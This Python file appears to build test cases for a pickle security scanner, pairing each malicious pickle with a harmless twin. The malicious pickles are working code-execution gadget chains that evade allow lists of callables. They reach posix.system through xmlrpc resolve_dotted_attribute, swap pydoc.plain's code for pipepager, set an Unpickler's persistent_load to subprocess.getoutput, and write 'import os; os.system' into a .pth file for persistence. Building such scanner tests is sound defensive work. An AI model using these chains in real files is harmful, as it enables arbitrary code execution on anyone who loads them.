"""Pickles and resolver chains: each calls something that no list of callables names under that path."""
from assembly import build, call, dot, get, glob, model, new, pickle, put, seq, tup
from pair import CODE, SHELL


def add(out):
    ordered = call(glob("collections", "OrderedDict"), [("alpha", 1), ("beta", 2)])
    modules = call(glob("xmlrpc.server", "resolve_dotted_attribute"), glob("textwrap", "re"), "enum.sys.modules")
    posix = call(call(glob("operator", "itemgetter"), "posix"), modules)
    system = call(glob("xmlrpc.server", "resolve_dotted_attribute"), posix, "system")
    out.add(
        "pickles", "dotted-attribute", pickle(model(call(system, SHELL))),
        pickle(model(call(call(glob("operator", "itemgetter"), "alpha"), ordered))),
        prove="pickle", file="scaler.pkl",
        why="xmlrpc.server.resolve_dotted_attribute walks re -> enum -> sys -> modules, and posix.system is called on load; the twin takes an item of a dict",
    )
    caps = {"text/plain": [{"view": "cat %s", "test": SHELL}]}
    out.add(
        "pickles", "mail-capability", pickle(model(call(glob("mailcap", "findmatch"), caps, "text/plain"))),
        pickle(model(call(glob("collections", "OrderedDict"), caps))),
        prove="pickle", file="encoder.pkl",
        why="mailcap.findmatch (Python up to 3.12) runs the `test` of an entry in a shell; the twin keeps the same table in an OrderedDict",
    )
    poke = seq(
        build(glob("os", "path"), {"exists": glob("sympy.parsing.sympy_parser", "parse_expr")}),
        call(glob("shutil", "which"), "__import__('os').system('touch ./marker')"),
    )
    out.add(
        "pickles", "module-state", pickle(model(poke)),
        pickle(model(build(new(glob("types", "SimpleNamespace")), {"exists": "exists", "parser": glob("fractions", "Fraction")}))),
        prove="pickle", file="features.pkl",
        why="BUILD on the module os.path puts sympy's evaluator in the place of exists, and shutil.which calls it with code; the twin builds a namespace of its own",
    )
    swap = seq(
        build(glob("pydoc", "plain"), tup(None, {"__code__": dot("pydoc", "pipepager", "__code__"), "__defaults__": (SHELL,)})),
        call(glob("pydoc", "plain"), "x"),
    )
    kept = build(new(glob("types", "SimpleNamespace")), {"__doc__": "plain", "defaults": (SHELL[:5],)})
    out.add(
        "pickles", "code-swap", pickle(model(swap)), pickle(model(kept)), prove="pickle", file="tokens.pkl",
        why="slot state gives the function pydoc.plain the code of pydoc.pipepager and a command as its default, and calls it: the command runs on load",
    )
    code = compile(CODE, "layer", "exec")
    fields = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize, code.co_flags,
              code.co_code, code.co_consts, code.co_names, code.co_varnames, code.co_filename, code.co_name, code.co_qualname,
              code.co_firstlineno, code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars)
    function = call(glob("types", "FunctionType"), new(glob("types", "CodeType"), *fields), {"__builtins__": dot("builtins", "__dict__")})
    out.add(
        "pickles", "assembled-code", pickle(model(call(function))),
        pickle(model(call(glob("collections", "OrderedDict"), [("bytecode", code.co_code), ("names", ("open", "close"))]))),
        prove="pickle", file="policy.pkl",
        why="types.CodeType is filled with byte code field by field (no marshal) and the function of it is called; the twin keeps the same bytes as data",
    )
    stage = b"\x80\x02X\x0c\x00\x00\x00touch markerQ."
    reader = put(1, call(glob("pickle", "Unpickler"), call(glob("io", "BytesIO"), stage)))
    hook = build(reader, tup(None, {"persistent_load": glob("subprocess", "getoutput")}))
    out.add(
        "pickles", "persistent-hook", pickle(model(seq(hook, call(dot("pickle", "Unpickler", "load"), get(1))))),
        pickle(model(call(glob("io", "BytesIO"), stage))),
        prove="pickle", file="replay.pkl",
        why="an Unpickler over a second pickle is given subprocess.getoutput as persistent_load: its persistent id is run as a command; the twin holds the bytes in a buffer",
    )
    example = ">>> open('marker','w').close()\n"
    out.add(
        "pickles", "docstring-examples", pickle(model(call(glob("doctest", "run_docstring_examples"), example, {}, False, "card"))),
        pickle(model(call(glob("textwrap", "dedent"), example))),
        prove="pickle", file="docs.pkl",
        why="doctest runs the examples of a string it is given; the twin dedents the same string",
    )
    box = put(2, call(glob("mailbox", "mbox"), "marker.pth"))
    write = seq(box, call(dot("mailbox", "mbox", "add"), get(2), "Subject: x\n\nimport os; os.system('id')\n"), call(dot("mailbox", "mbox", "close"), get(2)))
    message = call(glob("email", "message_from_string"), "Subject: x\n\nimport os; os.system('id')\n")
    out.add(
        "pickles", "mailbox-write", pickle(model(write)), pickle(model(message)), prove="pickle", file="mails.pkl",
        why="mailbox.mbox writes lines of the attacker's into a .pth file, which each start of Python runs; the twin parses the same message and writes nothing",
    )
